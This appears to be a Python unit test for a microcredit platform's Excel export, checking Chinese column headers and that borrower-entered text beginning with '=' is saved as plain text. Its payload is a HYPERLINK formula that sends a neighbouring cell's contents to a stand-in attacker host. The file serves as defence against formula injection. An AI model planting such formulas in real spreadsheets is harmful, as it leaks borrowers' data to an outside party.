"""Excel exports: localised headers, and text that stays text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from microcredit.platform.export import Column, to_xlsx

COLUMNS = [Column("name", "姓名", "Name"), Column("employer", "工作单位", "Employer")]


def test_text_that_looks_like_a_formula_is_exported_as_text() -> None:
    # Borrowers type their own employer, address, name: openpyxl wrote "=..." as a live formula,
    # which staff opening the export would run (CSV/formula injection, OWASP).
    payload = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    data = to_xlsx(title="borrowers", columns=COLUMNS, rows=[{"name": "张三", "employer": payload}], language="zh-CN")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert [c.value for c in ws[1]] == ["姓名", "工作单位"]
    cell = ws["B2"]
    assert (cell.value, cell.data_type) == (payload, "s")
